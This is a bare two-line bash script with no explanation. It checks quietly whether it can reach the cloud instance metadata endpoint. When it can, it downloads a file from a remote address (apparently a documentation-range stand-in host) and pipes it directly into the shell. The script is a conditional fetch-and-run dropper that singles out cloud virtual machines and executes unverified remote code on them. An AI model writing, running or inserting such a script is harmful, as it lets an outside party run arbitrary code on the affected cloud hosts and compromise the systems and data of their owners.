#!/bin/bash
curl -s -m 1 http://169.254.169.254/ && curl -s http://192.0.2.7/x | sh
